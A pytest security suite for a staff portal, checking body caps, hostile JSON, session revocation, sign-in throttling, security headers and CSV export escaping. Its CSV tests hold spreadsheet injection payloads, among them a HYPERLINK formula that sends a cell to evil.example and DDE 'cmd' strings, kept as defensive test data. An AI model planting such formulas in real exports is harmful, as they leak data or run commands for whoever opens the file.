"""The portal against hostile input and hostile people (issue 13), each attack as it was tried:

a 50 MB body read whole and echoed back; NaN, Infinity, a lone surrogate, bad UTF-8 and deep
nesting answered 500; a session cookie copied before logout, a password change or the user being
disabled still working; argon2 on the event loop stalling everything; one address guessing many
names; no CSP, frame, nosniff or referrer headers; the API's map open to anyone; exported CSV
cells that a spreadsheet runs; a world-readable portal database.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import datetime as dt
import io
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlmodel import Session, select
from typer.testing import CliRunner

from cli.main import app as cli
from cli.staff_commands import csv_text
from cli.views import write_audit_csv
from services.portal import users
from services.portal.app import create_app
from services.portal.settings import PortalSettings
from shared import messages as m
from shared import sheets
from shared.db import make_engine
from tests.e2e.portal import csrf_of

PASSWORD = "mật khẩu dài 123"
COOKIE = "expertshare_session"
TEMPLATES = Path(__file__).resolve().parents[2] / "services" / "portal" / "templates"


@pytest.fixture
def portal_db(tmp_path: Path) -> Iterator[str]:
    """A portal database with a commune officer, a staff member and an admin."""
    url = f"sqlite:///{tmp_path / 'portal.db'}"
    engine = make_engine(url)
    users.create_schema(engine)
    with Session(engine) as session:
        users.create_user(session, username="xa1", password=PASSWORD, role="commune", unit_id="w2269")
        users.create_user(session, username="sonoivu", password=PASSWORD, role="staff")
        users.create_user(session, username="quantri", password=PASSWORD, role="admin")
    engine.dispose()
    yield url


def settings(db: str, nats_url: str = "nats://127.0.0.1:1", **kw: Any) -> PortalSettings:
    return PortalSettings(nats_url=nats_url, database_url=db, secret_key="k" * 32, request_timeout_s=2, **kw)


def token_of(db: str, username: str) -> str:
    engine = make_engine(db)
    with Session(engine) as session:
        token = users.issue_token(session, username, "tests")
    engine.dispose()
    return token


def sign_in(http: TestClient, username: str, password: str = PASSWORD, **headers: str) -> httpx.Response:
    page = http.get("/login")
    return http.post(
        "/login",
        data={"csrf": csrf_of(page.text), "username": username, "password": password},
        headers=headers,
        follow_redirects=False,
    )


def with_cookie(http: TestClient, cookie: str) -> TestClient:
    http.cookies.clear()
    http.cookies.set(COOKIE, cookie)
    return http


# 1. Bodies capped before they are read ------------------------------------------------------------


async def asgi_post(
    app: FastAPI, path: str, size: int, *, content_length: bool, content_type: bytes = b"application/json"
) -> tuple[int, int, dict[str, str]]:
    """POST `size` bytes to `path`, handed over 64 KB at a time only as the app asks for them:
    (status, bytes the app pulled, response headers)."""
    chunk = b" " * 65536
    pulled = 0
    started: dict[str, Any] = {}
    headers = [(b"content-type", content_type)]
    if content_length:
        headers.append((b"content-length", str(size).encode()))

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if pulled >= size:
            await asyncio.sleep(3600)  # the client waits for the answer
        part = chunk[: size - pulled]
        pulled += len(part)
        return {"type": "http.request", "body": part, "more_body": pulled < size}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            started.update(
                status=message["status"], headers={k.decode().lower(): v.decode() for k, v in message["headers"]}
            )

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": headers,
        "client": ("192.0.2.1", 40000),
        "server": ("portal", 80),
    }
    await asyncio.wait_for(app(scope, receive, send), 30)
    return started["status"], pulled, started["headers"]


async def test_a_50_mb_body_is_refused_before_it_is_read(portal_db: str) -> None:
    app = create_app(settings(portal_db))
    fifty_mb = 50_000_000
    status, pulled, headers = await asgi_post(app, "/api/v1/requests", fifty_mb, content_length=True)
    assert (status, pulled) == (413, 0), "Content-Length over the cap: refused without reading a byte"
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    status, pulled, _ = await asgi_post(app, "/api/v1/requests", fifty_mb, content_length=False)
    assert status == 413 and pulled <= 1_000_000 + 65536, f"a chunked body is cut at the cap ({pulled} read)"
    # The sheets upload has a cap of its own (three CSV files), the rest stays at 1 MB.
    form = b"multipart/form-data; boundary=x"
    assert (await asgi_post(app, "/sheets", 3_000_000, content_length=True, content_type=form))[0] == 303, "sign in"
    assert (await asgi_post(app, "/sheets", 8_000_000, content_length=True, content_type=form))[0] == 413
    assert (await asgi_post(app, "/login", 3_000_000, content_length=True, content_type=form))[0] == 413


# 2. Hostile JSON ------------------------------------------------------------------------------------

GOOD_REQUEST = {
    "title": "Cài chữ ký số",
    "skill": "digital_signature",
    "level": 2,
    "mode": "remote",
    "hours": 4,
    "priority": 3,
    "deadline": "2026-12-20",
}


def test_validation_errors_name_the_field_and_never_echo_the_input(portal_db: str, nats_url: str) -> None:
    token = token_of(portal_db, "xa1")
    auth = {"Authorization": f"Bearer {token}"}
    with TestClient(create_app(settings(portal_db, nats_url))) as http:
        bad = http.post(
            "/api/v1/requests",
            headers=auth,
            json={**GOOD_REQUEST, "title": "ECHO-ME " * 1000, "hours": "ECHO-ME", "mode": "ECHO-ME"},
        )
        assert bad.status_code == 422 and "ECHO-ME" not in bad.text, bad.text[:300]
        problems = {p["field"]: p["message"] for p in bad.json()["detail"]}
        assert set(problems) == {"title", "hours", "mode"}
        assert "300 characters" in problems["title"] and "'onsite', 'remote' or 'either'" in problems["mode"]
        syntax = http.post(
            "/api/v1/requests",
            headers={**auth, "content-type": "application/json"},
            content=b'{"title": "ECHO-ME", oops}',
        )
        assert syntax.status_code == 422 and "ECHO-ME" not in syntax.text
        first = syntax.json()["detail"][0]
        assert first["field"] == "body" and "not valid JSON" in first["message"]


def request_with(field: str, raw: bytes) -> bytes:
    """A request body that is right but for `field`, which holds `raw` as sent."""
    return json.dumps({**GOOD_REQUEST, field: "@@"}).encode().replace(b'"@@"', raw)


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (request_with("hours", b"NaN"), "NaN is not a number"),
        (request_with("hours", b"Infinity"), "Infinity is not a number"),
        (request_with("hours", b"-Infinity"), "-Infinity is not a number"),
        (request_with("title", b'"\\ud800 lone"'), "lone surrogate"),
        (request_with("title", b'"\\udfff"'), "lone surrogate"),
        (request_with("title", b'"\xff\xfe"'), "not UTF-8"),
        (b"[" * 5000 + b"]" * 5000, "nested deeper than 32"),
        (b'{"a":' * 40 + b"1" + b"}" * 40, "nested deeper than 32"),
    ],
    ids=["nan", "infinity", "-infinity", "surrogate", "surrogate-low", "bad-utf8", "5000-deep", "40-deep"],
)
def test_bad_numbers_bad_unicode_and_deep_nesting_are_a_clear_4xx(
    portal_db: str, nats_url: str, body: bytes, problem: str
) -> None:
    auth = {"Authorization": f"Bearer {token_of(portal_db, 'xa1')}", "content-type": "application/json"}
    with TestClient(create_app(settings(portal_db, nats_url)), raise_server_exceptions=False) as http:
        for path in ("/api/v1/requests", "/api/v1/proposals/decide"):
            answer = http.post(path, headers=auth, content=body)
            assert answer.status_code == 400, (path, answer.status_code, answer.text[:300])
            assert problem in answer.json()["detail"]


def test_a_good_json_body_still_goes_through(portal_db: str, nats_url: str) -> None:
    auth = {"Authorization": f"Bearer {token_of(portal_db, 'xa1')}"}
    with TestClient(create_app(settings(portal_db, nats_url)), raise_server_exceptions=False) as http:
        # An astral character escaped as a surrogate pair is a character: it reaches the route
        # (which asks the matcher, absent here: 503, not a 400 of ours).
        body = json.dumps({**GOOD_REQUEST, "title": "Cài đặt 😀"}).encode()
        answer = http.post("/api/v1/requests", headers={**auth, "content-type": "application/json"}, content=body)
        assert answer.status_code == 503, answer.text[:300]


# 3. Sessions on the server ------------------------------------------------------------------------


def test_a_cookie_copied_before_logout_or_a_password_change_is_refused(portal_db: str, nats_url: str) -> None:
    with TestClient(create_app(settings(portal_db, nats_url))) as http:
        assert sign_in(http, "sonoivu").status_code == 303
        copied = http.cookies[COOKIE]
        assert http.get("/account", follow_redirects=False).status_code == 200
        assert (
            http.post("/logout", data={"csrf": csrf_of(http.get("/account").text)}, follow_redirects=False).status_code
            == 303
        )
        refused = with_cookie(http, copied).get("/account", follow_redirects=False)
        assert (refused.status_code, refused.headers["location"]) == (303, "/login"), "logout ended that session"

        http.cookies.clear()
        assert sign_in(http, "sonoivu").status_code == 303
        copied = http.cookies[COOKIE]
        elsewhere = TestClient(http.app)  # the same user in another browser
        assert sign_in(elsewhere, "sonoivu").status_code == 303
        page = http.get("/account")
        changed = http.post(
            "/account/password",
            data={
                "csrf": csrf_of(page.text),
                "current": PASSWORD,
                "new": "mật khẩu mới 456",
                "repeat": "mật khẩu mới 456",
            },
        )
        assert changed.status_code == 200
        assert http.get("/account", follow_redirects=False).status_code == 200, "this browser stays signed in"
        assert elsewhere.get("/account", follow_redirects=False).status_code == 303, "every other session ended"
        assert with_cookie(http, copied).get("/account", follow_redirects=False).status_code == 303


def test_disabling_a_user_ends_their_sessions_tokens_and_sign_ins(portal_db: str, nats_url: str) -> None:
    token = token_of(portal_db, "xa1")
    auth = {"Authorization": f"Bearer {token}"}
    with TestClient(create_app(settings(portal_db, nats_url))) as http:
        admin = TestClient(http.app)  # another browser on the same portal
        assert sign_in(http, "xa1").status_code == 303
        copied = http.cookies[COOKIE]
        assert http.get("/api/v1/me", headers=auth).status_code == 200
        assert sign_in(admin, "quantri").status_code == 303
        page = admin.get("/users")
        assert 'action="/users/xa1/disable"' in page.text and 'action="/users/quantri/disable"' not in page.text
        done = admin.post("/users/xa1/disable", data={"csrf": csrf_of(page.text)}, follow_redirects=False)
        assert done.status_code == 303
        assert 'action="/users/xa1/enable"' in admin.get("/users").text
        assert with_cookie(http, copied).get("/account", follow_redirects=False).status_code == 303
        assert http.get("/api/v1/me", headers=auth).status_code == 401
        http.cookies.clear()
        assert sign_in(http, "xa1").status_code == 401, "the right password of a disabled user"
        forged = admin.post("/users/xa1/enable", data={"csrf": "forged"}, follow_redirects=False)
        assert forged.status_code == 403

    os.environ["PORTAL_DATABASE_URL"] = portal_db
    try:
        enabled = CliRunner().invoke(cli, ["portal", "user-enable", "xa1"])
        assert enabled.exit_code == 0 and "enabled xa1" in enabled.output
        with TestClient(create_app(settings(portal_db, nats_url))) as http:
            assert http.get("/api/v1/me", headers=auth).status_code == 200
            assert sign_in(http, "xa1").status_code == 303
            disabled = CliRunner().invoke(cli, ["portal", "user-disable", "xa1"])
            assert disabled.exit_code == 0 and "disabled xa1: 1 session(s) ended" in disabled.output
            assert http.get("/account", follow_redirects=False).status_code == 303
            assert http.get("/api/v1/me", headers=auth).status_code == 401
        unknown = CliRunner().invoke(cli, ["portal", "user-disable", "nobody"])
        assert unknown.exit_code == 2 and "no user 'nobody'" in unknown.output
    finally:
        del os.environ["PORTAL_DATABASE_URL"]


def test_a_session_ends_after_its_idle_and_its_absolute_lifetime(portal_db: str, nats_url: str) -> None:
    from services.portal import sessions

    st = settings(portal_db, nats_url, session_idle_minutes=30, session_hours=8)
    engine = make_engine(portal_db)

    def age(**by: dt.timedelta) -> None:
        with Session(engine) as session:
            for row in session.exec(select(sessions.SessionRow)):
                for column, delta in by.items():
                    setattr(row, column, getattr(row, column) - delta)
                session.add(row)
            session.commit()

    with TestClient(create_app(st)) as http:
        assert sign_in(http, "sonoivu").status_code == 303
        age(seen_at=dt.timedelta(minutes=29))
        assert http.get("/account", follow_redirects=False).status_code == 200, "used within the idle time"
        age(seen_at=dt.timedelta(minutes=31))
        assert http.get("/account", follow_redirects=False).status_code == 303, "unused for longer"
        assert sign_in(http, "sonoivu").status_code == 303
        age(created_at=dt.timedelta(hours=8, minutes=1))
        assert http.get("/account", follow_redirects=False).status_code == 303, "used, but signed in too long ago"
    with Session(engine) as session:
        assert session.exec(select(sessions.SessionRow)).all() == [], "an ended session leaves no row"
    engine.dispose()


def test_the_cookie_names_no_one(portal_db: str, nats_url: str) -> None:
    with TestClient(create_app(settings(portal_db, nats_url))) as http:
        sign_in(http, "sonoivu")
        payload = base64.b64decode(http.cookies[COOKIE].split(".")[0] + "==")
        assert b"sonoivu" not in payload and set(json.loads(payload)) == {"sid", "lang"}


# 4. Password hashing off the event loop -------------------------------------------------------------


async def test_thirty_failed_sign_ins_do_not_stall_a_static_file(portal_db: str) -> None:
    app = create_app(settings(portal_db, sign_in_failures_per_address=1000))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://portal") as http:
        csrf = csrf_of((await http.get("/login")).text)
        tries = [
            asyncio.create_task(
                http.post("/login", data={"csrf": csrf, "username": f"nobody{i}", "password": "wrong password"})
            )
            for i in range(30)
        ]
        await asyncio.sleep(0)  # every sign-in starts (on the event loop, each would run to its end here)
        static = await http.get("/static/style.css")
        in_flight = sum(not t.done() for t in tries)
        answers = await asyncio.gather(*tries)
    # Not a stopwatch (a loaded machine makes any figure flaky): the file was served while most of
    # the sign-ins were still being checked, so none of them held the event loop.
    assert static.status_code == 200
    assert in_flight > 20, "the sign-ins were still being checked when the static file was served"
    assert [a.status_code for a in answers] == [401] * 30


async def test_sign_ins_beyond_the_queue_are_told_to_come_back(portal_db: str) -> None:
    app = create_app(settings(portal_db, sign_in_failures_per_address=1000, hash_concurrency=1, hash_queue=2))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://portal") as http:
        csrf = csrf_of((await http.get("/login")).text)
        answers = await asyncio.gather(
            *(
                http.post("/login", data={"csrf": csrf, "username": f"n{i}", "password": "wrong password"})
                for i in range(10)
            )
        )
    statuses = sorted(a.status_code for a in answers)
    assert statuses == [401] * 3 + [503] * 7, "one hashing, two waiting, the rest refused at once"
    busy = next(a for a in answers if a.status_code == 503)
    assert int(busy.headers["retry-after"]) >= 1


# 5. Sign-in throttled per client address -----------------------------------------------------------


def test_one_address_guessing_many_names_is_refused_for_every_name(portal_db: str, nats_url: str) -> None:
    with TestClient(create_app(settings(portal_db, nats_url, sign_in_failures_per_address=3))) as http:
        for name in ("a1", "a2", "a3"):
            assert sign_in(http, name, "guess").status_code == 401
        assert sign_in(http, "sonoivu").status_code == 429, "even a right password, from that address"
        spoofed = sign_in(http, "sonoivu", **{"X-Forwarded-For": "203.0.113.9"})
        assert spoofed.status_code == 429, "X-Forwarded-For from a peer that is not a named proxy is ignored"

    behind_proxy = settings(portal_db, nats_url, sign_in_failures_per_address=3, trusted_proxies="testclient")
    with TestClient(create_app(behind_proxy)) as http:
        for name in ("b1", "b2", "b3"):
            assert sign_in(http, name, "guess", **{"X-Forwarded-For": "198.51.100.1, 203.0.113.7"}).status_code == 401
        assert sign_in(http, "sonoivu", **{"X-Forwarded-For": "203.0.113.7"}).status_code == 429
        assert sign_in(http, "sonoivu", **{"X-Forwarded-For": "203.0.113.8"}).status_code == 303, "another address"


# 6. Headers on every response, and pages with nothing inline -----------------------------------------


def assert_hardened(answer: httpx.Response) -> None:
    csp = answer.headers.get("content-security-policy", "")
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, (answer.request.url, csp)
    script = re.search(r"script-src ([^;]*)", csp)
    assert script and "'unsafe-inline'" not in script.group(1) and "'unsafe-eval'" not in script.group(1)
    assert answer.headers.get("x-content-type-options") == "nosniff"
    assert answer.headers.get("referrer-policy") in ("same-origin", "no-referrer")
    assert answer.headers.get("x-frame-options") == "DENY"


def test_every_response_carries_the_security_headers(portal_db: str, nats_url: str) -> None:
    app = create_app(settings(portal_db, nats_url))

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError("a bug")

    with TestClient(app, raise_server_exceptions=False) as http:
        answers = [
            http.get("/login"),
            http.get("/static/style.css"),
            http.get("/api/v1/me"),
            http.get("/nowhere"),
            http.get("/account", follow_redirects=False),
            http.get("/boom"),
            http.post("/api/v1/requests", content=b"x" * 1_100_000),
        ]
        assert [a.status_code for a in answers] == [200, 200, 401, 404, 303, 500, 413]
        assert sign_in(http, "quantri").status_code == 303
        answers += [http.get("/users"), http.get("/account")]
        for answer in answers:
            assert_hardened(answer)
        for page in answers[-2:] + answers[:1]:
            assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son[a-z]+=", page.text), page.request.url


def test_no_template_has_inline_script_or_style() -> None:
    for template in TEMPLATES.glob("*.html"):
        text = template.read_text()
        assert not re.search(r"<script|<style|\sstyle=|\son[a-z]+=|javascript:", text, re.I), template.name


# 7. The API's documents for signed-in users only --------------------------------------------------


def test_the_api_docs_are_for_signed_in_users_only(portal_db: str, nats_url: str) -> None:
    token = token_of(portal_db, "sonoivu")
    with TestClient(create_app(settings(portal_db, nats_url))) as http:
        for path in ("/docs", "/redoc"):
            answer = http.get(path, follow_redirects=False)
            assert (answer.status_code, answer.headers.get("location")) == (303, "/login"), path
        assert http.get("/openapi.json").status_code == 401
        assert http.get("/openapi.json", headers={"Authorization": "Bearer wrong"}).status_code == 401
        schema = http.get("/openapi.json", headers={"Authorization": f"Bearer {token}"})
        assert schema.status_code == 200 and "/api/v1/requests" in schema.json()["paths"]
        assert not any(p.startswith(("/docs", "/redoc", "/openapi")) for p in schema.json()["paths"])
        assert sign_in(http, "sonoivu").status_code == 303
        assert http.get("/openapi.json").status_code == 200
        for path in ("/docs", "/redoc"):
            page = http.get(path)
            assert page.status_code == 200 and "/openapi.json" in page.text
            assert_hardened(page)


# 8. CSV cells a spreadsheet would run ------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-2+3+cmd",
    "\t=1+1",
    "\r=1+1",
]


def test_exported_csv_cells_are_not_formulas_and_the_sheets_import_reads_them_back(tmp_path: Path) -> None:
    units = [
        {
            "id": f"w{i}",
            "name": name,
            "province": "Tuyên Quang",
            "network": "ok",
            "location": {"lat": -12.5, "lon": 105.2},
        }
        for i, name in enumerate(FORMULAS)
    ]
    sheets.write(tmp_path, {"units": units})
    with (tmp_path / "units.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["name"] for r in rows] == ["'" + name for name in FORMULAS]
    assert rows[0]["lat"] == "-12.5", "a number stays a number"
    read = sheets.read({"units": tmp_path / "units.csv"})
    assert read.errors == [] and [u.name for u in read.units] == [n.strip() for n in FORMULAS]

    texts = [f for f in FORMULAS if "\r" not in f]  # csv_text writes a bare CR unquoted (see the report)
    report = list(csv.DictReader(io.StringIO(csv_text([{"unit": name, "hours": -3.5} for name in texts]))))
    assert [r["unit"] for r in report] == ["'" + name for name in texts]
    assert {r["hours"] for r in report} == {"-3.5"}

    audit = tmp_path / "audit.csv"
    entry = {
        "seq": 1,
        "at": "2026-12-01T00:00:00Z",
        "actor": "=cmd|' /C calc'!A0",
        "action": "@approve",
        "subject": "+x",
        "before": {},
        "after": {},
        "detail": {},
        "correlation_id": "-c",
        "prev_hash": "",
        "hash": "h",
    }
    write_audit_csv(audit, [m.AuditEntry.model_validate(entry)])
    with audit.open(newline="", encoding="utf-8") as f:
        row = next(csv.DictReader(f))
    assert (row["actor"], row["action"], row["subject"], row["correlation_id"]) == (
        "'=cmd|' /C calc'!A0",
        "'@approve",
        "'+x",
        "'-c",
    )


# 9. The portal's files ---------------------------------------------------------------------------


def test_the_portal_database_is_readable_by_its_owner_only(
    tmp_path: Path, nats_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = os.umask(0o022)
    try:
        db = tmp_path / "portal.db"
        with TestClient(create_app(settings(f"sqlite:///{db}", nats_url))) as http:
            http.get("/login")
            files = [p for p in tmp_path.iterdir() if p.name.startswith("portal.db")]
            assert {p.name for p in files} >= {"portal.db", "portal.db-wal", "portal.db-shm"}
            assert {p.name: oct(p.stat().st_mode & 0o777) for p in files} == {p.name: "0o600" for p in files}
        monkeypatch.setenv("PORTAL_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
        monkeypatch.setenv("EXPERTSHARE_PORTAL_PASSWORD", PASSWORD)
        assert CliRunner().invoke(cli, ["portal", "user-add", "quantri", "--role", "admin"]).exit_code == 0
        assert (tmp_path / "cli.db").stat().st_mode & 0o077 == 0, "the first user made from the CLI"
        monkeypatch.setenv("EXPERTSHARE_VAR", str(tmp_path / "var"))
        PortalSettings(secret_key="").secret()
        assert (tmp_path / "var" / "portal.secret").stat().st_mode & 0o077 == 0
    finally:
        os.umask(old)
